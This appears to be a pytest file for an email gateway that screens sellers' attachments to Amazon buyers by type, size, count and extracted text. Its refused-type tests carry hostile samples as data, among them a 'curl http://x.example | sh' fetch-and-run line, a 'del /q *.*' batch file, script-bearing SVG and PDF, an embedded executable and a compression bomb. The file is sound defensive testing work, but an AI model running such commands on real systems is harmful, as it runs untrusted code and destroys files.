"""Attachments: type, size, count and the text inside (attach.*), with real files."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from email.message import EmailMessage
from email.policy import SMTP

import pytest

from bench.corpus import text_pdf as make_pdf
from policies import all_rules, load_policy
from tests.mail import ALIAS, SELLER, actions, check, make_message, rules_fired

# -- real files -------------------------------------------------------------------------


def pdf_via_pypdf(pdf: bytes, **encrypt: str) -> bytes:
    from pypdf import PdfReader, PdfWriter

    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(pdf)))
    if encrypt:
        writer.encrypt(algorithm="AES-128", **encrypt)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def pdf_with_embedded_file(pdf: bytes, name: str, data: bytes) -> bytes:
    from pypdf import PdfReader, PdfWriter

    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(pdf)))
    writer.add_attachment(name, data)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


W_NS = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"


def _wordml(root: str, paragraphs: list[str]) -> str:
    body = "".join(f'<w:p><w:r><w:t xml:space="preserve">{p}</w:t></w:r></w:p>' for p in paragraphs)
    inner = f"<w:body>{body}</w:body>" if root == "document" else body
    return (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        f'<w:{root} xmlns:w="{W_NS}">{inner}</w:{root}>'
    )


def make_docx(
    *paragraphs: str, header: str | None = None, macros: bool = False, padding: int = 0
) -> bytes:
    """A Word document as Word writes it (the parts the gateway reads)."""
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr(
            "[Content_Types].xml",
            '<?xml version="1.0"?><Types xmlns='
            '"http://schemas.openxmlformats.org/package/2006/content-types"/>',
        )
        xml = _wordml("document", list(paragraphs))
        if padding:
            xml = xml.replace("<w:body>", "<w:body>" + " " * padding)
        zf.writestr("word/document.xml", xml)
        if header is not None:
            zf.writestr("word/header1.xml", _wordml("hdr", [header]))
        if macros:
            zf.writestr("word/vbaProject.bin", b"\xd0\xcf\x11\xe0" + b"\0" * 64)
    return buf.getvalue()


def make_zip(**files: bytes) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as zf:
        for name, data in files.items():
            zf.writestr(name, data)
    return buf.getvalue()


def make_png(width: int = 2, height: int = 2, pad: int = 0) -> bytes:
    """A valid PNG; `pad` adds a text chunk to make it big."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        crc = struct.pack(">I", zlib.crc32(kind + data))
        return struct.pack(">I", len(data)) + kind + data + crc

    raw = b"".join(b"\0" + b"\x80\x40\x20" * width for _ in range(height))
    ihdr = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    extra = chunk(b"tEXt", b"c\0" + b"x" * pad) if pad else b""
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", ihdr)
        + extra
        + chunk(b"IDAT", zlib.compress(raw))
        + chunk(b"IEND", b"")
    )


JPEG = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00" + b"\0" * 200
GIF = b"GIF89a\x01\x00\x01\x00\x80\x00\x00\xff\xff\xff\x00\x00\x00!\xf9\x04" + b"\0" * 40
EXE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00" + b"\0" * 50 + b"\x80\0\0\0" + b"\0" * 64 + b"PE\0\0"

INVOICE_TEXT = (
    "INVOICE 2024-0187\n"
    "Acme Home GmbH, Hauptstrasse 1, 10115 Berlin, VAT DE123456789\n"
    "Order 123-1234567-1234567, date 2024-05-02\n"
    "1 x Garden hose 25 m   EUR 29.90\n"
    "Total incl. 19% VAT    EUR 29.90\n"
    "Payment received via Amazon. Thank you for your order."
)
REPLY = "Hello, please find the invoice for your order attached. Kind regards, Acme Home"


def send(*attachments: tuple[bytes, str, str], text: str = REPLY) -> set[str]:
    """The rules fired on a reply carrying these attachments."""
    return rules_fired(check(make_message(text, reply=True, attachments=list(attachments))))


def attach_findings(raw: bytes, policy_text: str | None = None) -> list[tuple[str, str, str]]:
    policy = load_policy(policy_text) if policy_text else None
    verdict = check(raw, policy)
    return [
        (f.rule, str(f.action), f.message) for f in verdict.findings if f.rule.startswith("attach")
    ]


def reply_with(*attachments: tuple[bytes, str, str], text: str = REPLY) -> bytes:
    return make_message(text, reply=True, attachments=list(attachments))


# -- near-misses: real attachments a seller sends every day --------------------------------


@pytest.mark.parametrize(
    ("data", "mime", "name"),
    [
        (make_pdf(INVOICE_TEXT), "application/pdf", "invoice.pdf"),
        (make_pdf(INVOICE_TEXT), "application/pdf", "INVOICE.PDF"),
        (make_png(40, 30), "image/png", "damage-photo.png"),
        (JPEG, "image/jpeg", "IMG_2041.JPG"),
        (
            b"Assembly instructions\n1. Attach the hose to the tap.\n2. Turn slowly.\n",
            "text/plain",
            "instructions.txt",
        ),
        (
            make_docx("Warranty certificate", "This product is covered for 2 years."),
            "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
            "warranty.docx",
        ),
        # A PNG saved as .jpg: harmless, and common.
        (make_png(), "image/jpeg", "photo.jpg"),
        # Generic declared type: judged by content, which is a plain PDF.
        (make_pdf("Return label"), "application/octet-stream", "label.pdf"),
        # Owner password only (printing restrictions): opens without a password.
        (
            pdf_via_pypdf(make_pdf(INVOICE_TEXT), user_password="", owner_password="x"),
            "application/pdf",
            "invoice-protected.pdf",
        ),
    ],
)
def test_everyday_attachments_pass(data: bytes, mime: str, name: str) -> None:
    verdict = check(reply_with((data, mime, name)))
    assert not [r for r in rules_fired(verdict) if r.startswith("attach")], verdict.findings
    assert verdict.outcome == "pass"


def test_five_attachments_do_not_warn() -> None:
    files = [(make_pdf(f"Page {i}"), "application/pdf", f"doc{i}.pdf") for i in range(5)]
    assert "attach.count" not in send(*files)


def test_inline_logo_is_not_an_attachment() -> None:
    msg = EmailMessage()
    msg["From"], msg["To"], msg["Subject"] = SELLER, ALIAS, "Re: your order"
    msg["In-Reply-To"] = "<q@marketplace.amazon.com>"
    msg.set_content("Hello, the invoices are attached.")
    msg.add_alternative(
        '<p>Hello, the invoices are attached.</p><img src="cid:logo1" alt="">', subtype="html"
    )
    html = msg.get_payload()[1]
    html.add_related(make_png(), maintype="image", subtype="png", cid="<logo1>")
    for i in range(5):
        msg.add_attachment(
            make_pdf(f"Invoice {i}"),
            maintype="application",
            subtype="pdf",
            filename=f"invoice{i}.pdf",
        )
    verdict = check(msg.as_bytes(policy=SMTP))
    assert "attach.count" not in rules_fired(verdict)
    assert "attach.type" not in rules_fired(verdict)


def test_gif_is_left_to_image_gif() -> None:
    assert "attach.type" not in send((GIF, "image/gif", "smile.gif"))


# -- attach.type -------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("data", "mime", "name", "words"),
    [
        (make_zip(**{"invoice.pdf": b"%PDF-1.4"}), "application/zip", "documents.zip", "ZIP"),
        (EXE, "application/octet-stream", "setup.exe", "program"),
        (
            make_docx("Invoice", macros=True),
            "application/vnd.ms-word.document.macroEnabled.12",
            "invoice.docm",
            "macros",
        ),
        (
            b"<!DOCTYPE html><html><body>Invoice</body></html>",
            "text/html",
            "invoice.html",
            "web page",
        ),
        (
            b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
            "image/svg+xml",
            "logo.svg",
            "SVG",
        ),
        (b"#!/bin/sh\ncurl http://x.example | sh\n", "text/plain", "fix.sh", "script"),
        (b"\x1f\x8b\x08\x00" + b"\0" * 40, "application/gzip", "logs.gz", "archive"),
    ],
)
def test_refused_types_block(data: bytes, mime: str, name: str, words: str) -> None:
    found = [f for f in attach_findings(reply_with((data, mime, name))) if f[0] == "attach.type"]
    assert found and found[0][1] == "block"
    assert words in found[0][2]


def test_program_disguised_as_pdf_says_so() -> None:
    found = attach_findings(reply_with((EXE, "application/pdf", "invoice.pdf")))
    assert [f[0] for f in found] == ["attach.type"]
    assert "named like a .pdf file but is really a program" in found[0][2]


def test_script_named_bat_is_refused_although_it_is_text() -> None:
    found = attach_findings(reply_with((b"@echo off\r\ndel /q *.*\r\n", "text/plain", "fix.bat")))
    assert ("attach.type", "block") in [(f[0], f[1]) for f in found]
    assert ".bat" in found[0][2]


def test_forwarded_email_is_refused() -> None:
    inner = make_message("Buy our new product!", subject="Newsletter")
    msg = EmailMessage()
    msg["From"], msg["To"], msg["Subject"] = SELLER, ALIAS, "Re: your question"
    msg.set_content("See the attached mail.")
    msg.add_attachment(inner, maintype="message", subtype="rfc822")
    verdict = check(msg.as_bytes(policy=SMTP))
    assert actions(verdict, "attach.type") == {"block"}
    assert verdict.outcome == "block"


def test_spreadsheet_is_refused() -> None:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as zf:
        zf.writestr("[Content_Types].xml", "<Types/>")
        zf.writestr("xl/workbook.xml", "<workbook/>")
    assert "attach.type" in send((buf.getvalue(), "application/vnd.ms-excel", "prices.xlsx"))


def test_allow_list_is_policy() -> None:
    policy = """
[rules."attach.type"]
allowed = ["pdf", "text", "jpeg", "png", "doc", "docx", "zip"]
refused_extensions = ["exe"]
"""
    raw = reply_with((make_zip(a=b"x"), "application/zip", "photos.zip"))
    assert not [f for f in attach_findings(raw, policy) if f[0] == "attach.type"]


# -- attach.size and attach.count ----------------------------------------------------------


def test_more_than_10_mb_blocks() -> None:
    big = make_png(pad=6 * 1024 * 1024)
    verdict = check(reply_with((big, "image/png", "a.png"), (big, "image/png", "b.png")))
    assert actions(verdict, "attach.size") == {"block"}
    message = next(f.message for f in verdict.findings if f.rule == "attach.size")
    assert "12.0 MB" in message and "10.0 MB" in message


def png_of(size: int) -> bytes:
    """A valid PNG of exactly `size` bytes."""
    return make_png(pad=size - len(make_png(pad=1)) + 1)


@pytest.mark.parametrize(
    ("over", "total", "limit"),
    [
        (200 * 1024, "10.2 MB", "10.0 MB"),
        (20 * 1024, "10.02 MB", "10.00 MB"),  # one decimal would say "10.0 MB ... 10.0 MB"
        (100, "10,485,860 bytes", "10,485,760 bytes"),  # under 1 KB over: the exact bytes
    ],
)
def test_just_over_the_size_limit_says_by_how_much(over: int, total: str, limit: str) -> None:
    a, b = png_of(5 * 1024 * 1024), png_of(5 * 1024 * 1024 + over)
    verdict = check(reply_with((a, "image/png", "a.png"), (b, "image/png", "b.png")))
    message = next(f.message for f in verdict.findings if f.rule == "attach.size")
    assert f"add up to {total}; Amazon accepts at most {limit} " in message


def test_just_under_10_mb_passes() -> None:
    big = make_png(pad=4 * 1024 * 1024)
    verdict = check(reply_with((big, "image/png", "a.png"), (big, "image/png", "b.png")))
    assert "attach.size" not in rules_fired(verdict)


def test_six_attachments_warn() -> None:
    files = [(make_pdf(f"Page {i}"), "application/pdf", f"doc{i}.pdf") for i in range(6)]
    verdict = check(reply_with(*files))
    assert actions(verdict, "attach.count") == {"warn"}
    assert verdict.outcome == "pass"


# -- attach.content: files that cannot be checked ------------------------------------------


def test_password_protected_pdf_blocks() -> None:
    pdf = pdf_via_pypdf(make_pdf(INVOICE_TEXT), user_password="secret", owner_password="x")
    found = attach_findings(reply_with((pdf, "application/pdf", "invoice.pdf")))
    assert [(f[0], f[1]) for f in found] == [("attach.content", "block")]
    assert "could not read" in found[0][2] and "password" in found[0][2]


def test_damaged_pdf_blocks() -> None:
    pdf = make_pdf(INVOICE_TEXT)[:300]
    found = attach_findings(reply_with((pdf, "application/pdf", "invoice.pdf")))
    assert [(f[0], f[1]) for f in found] == [("attach.content", "block")]
    assert "could not read" in found[0][2]


def test_pdf_with_embedded_program_blocks() -> None:
    pdf = pdf_with_embedded_file(make_pdf(INVOICE_TEXT), "update.exe", EXE)
    found = attach_findings(reply_with((pdf, "application/pdf", "invoice.pdf")))
    assert [(f[0], f[1]) for f in found] == [("attach.content", "block")]
    assert "update.exe" in found[0][2]


def test_pdf_with_javascript_blocks() -> None:
    pdf = make_pdf(INVOICE_TEXT, catalog_extra="/OpenAction << /S /JavaScript /JS (app.alert) >> ")
    found = attach_findings(reply_with((pdf, "application/pdf", "invoice.pdf")))
    assert [(f[0], f[1]) for f in found] == [("attach.content", "block")]


def test_docx_compression_bomb_blocks() -> None:
    policy = "[limits]\nmax_docx_xml_bytes = 100000"
    bomb = make_docx("Invoice", padding=200_000)
    assert len(bomb) < 5000
    found = attach_findings(reply_with((bomb, "application/msword", "invoice.docx")), policy)
    assert [(f[0], f[1]) for f in found] == [("attach.content", "block")]
    assert "compression bomb" in found[0][2]


def test_corrupt_docx_blocks() -> None:
    docx = make_docx("Invoice")
    broken = docx.replace(b"word/document.xml", b"word/document.xmX", 1)
    broken = make_docx("Invoice").replace(b"<w:body>", b"<w:body", 1)
    found = attach_findings(reply_with((broken, "application/msword", "invoice.docx")))
    if found:  # deflate hides the XML; build a stored (uncompressed) one instead
        assert found[0][:2] == ("attach.content", "block")
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_STORED) as zf:
        zf.writestr("[Content_Types].xml", "<Types/>")
        zf.writestr("word/document.xml", "<w:document><w:body>unclosed")
    found = attach_findings(reply_with((buf.getvalue(), "application/msword", "invoice.docx")))
    assert [(f[0], f[1]) for f in found] == [("attach.content", "block")]
    del docx


# -- attach.content: the text rules run over the file's text --------------------------------

# body.length is the one text rule that exists for certain in every checkout; turned into a
# block rule with a small limit it shows the whole path: extraction → rules → finding.
LONG = "This is the text of a long leaflet about our products. " * 12
STRICT = """
[rules."body.length"]
action = "block"
max_chars = 400
[rules."attach.content"]
ignore_rules = ["attach.*", "mime.*"]
"""


@pytest.mark.parametrize(
    ("data", "mime", "name"),
    [
        (make_pdf("Invoice", LONG), "application/pdf", "invoice.pdf"),
        (make_docx("Warranty", LONG), "application/msword", "warranty.docx"),
        (make_docx("Warranty", header=LONG), "application/msword", "warranty.docx"),
        (LONG.encode(), "text/plain", "notes.txt"),
        # Quote marks cannot hide text in a file.
        (("> " + LONG).encode(), "text/plain", "notes.txt"),
    ],
)
def test_file_text_goes_through_the_text_rules(data: bytes, mime: str, name: str) -> None:
    found = attach_findings(reply_with((data, mime, name), text="Short reply."), STRICT)
    assert [(f[0], f[1]) for f in found] == [("attach.content", "block")]
    assert "body.length" in found[0][2] and name in found[0][2]


def test_short_file_text_passes_the_same_rules() -> None:
    raw = reply_with((make_pdf(INVOICE_TEXT), "application/pdf", "invoice.pdf"), text="Hi.")
    assert attach_findings(raw, STRICT) == []


def test_only_blocking_inner_findings_count_by_default() -> None:
    warn_only = STRICT.replace('action = "block"', 'action = "warn"', 1)
    raw = reply_with((LONG.encode(), "text/plain", "notes.txt"), text="Short reply.")
    assert attach_findings(raw, warn_only) == []
    stricter = warn_only + 'report_actions = ["block", "warn"]\n'
    assert [f[0] for f in attach_findings(raw, stricter)] == ["attach.content"]


def test_strip_findings_refuse_a_file_only_when_asked() -> None:
    # contact.email_address strips from a body; in a file it counts only when the policy
    # adds "strip" to report_actions (and a rule set to warn still never counts).
    pdf = make_pdf("Invoice", "Questions? Write to help@seller-shop.example any time.")
    raw = reply_with((pdf, "application/pdf", "invoice.pdf"), text="Short reply.")
    assert attach_findings(raw) == []
    asked = '[rules."attach.content"]\nreport_actions = ["block", "strip"]\n'
    found = attach_findings(raw, asked)
    assert [(f[0], f[1]) for f in found] == [("attach.content", "block")]
    assert "contact.email_address" in found[0][2]
    warned = asked + '[rules."contact.email_address"]\naction = "warn"\n'
    assert attach_findings(raw, warned) == []


def test_long_file_is_checked_partly_and_warned() -> None:
    policy = "[limits]\nmax_attachment_pages = 2"
    pdf = make_pdf("Invoice", "Terms", "More terms")
    found = attach_findings(reply_with((pdf, "application/pdf", "terms.pdf")), policy)
    assert [(f[0], f[1]) for f in found] == [("attach.content", "warn")]
    assert "only its beginning was checked" in found[0][2]


def _needs(*rule_ids: str) -> pytest.MarkDecorator:
    missing = [r for r in rule_ids if r not in {rule.id for rule in all_rules()}]
    return pytest.mark.skipif(bool(missing), reason=f"rules not written yet: {missing}")


@_needs("purpose.marketing")
def test_coupon_flyer_named_invoice_blocks() -> None:
    flyer = make_pdf(
        "SUMMER SALE - 30% OFF EVERYTHING\n"
        "Use coupon code SUMMER30 at checkout on your next order.\n"
        "Shop our new arrivals today - limited time offer!"
    )
    found = attach_findings(reply_with((flyer, "application/pdf", "invoice.pdf")))
    assert ("attach.content", "block") in [(f[0], f[1]) for f in found]
    assert any("purpose.marketing" in f[2] for f in found)


@_needs("review.incentive")
def test_review_incentive_in_docx_blocks() -> None:
    docx = make_docx(
        "Thank you for your purchase!",
        "Leave us a 5-star review and we will send you a $10 gift card.",
    )
    found = attach_findings(reply_with((docx, "application/msword", "thanks.docx")))
    assert ("attach.content", "block") in [(f[0], f[1]) for f in found]
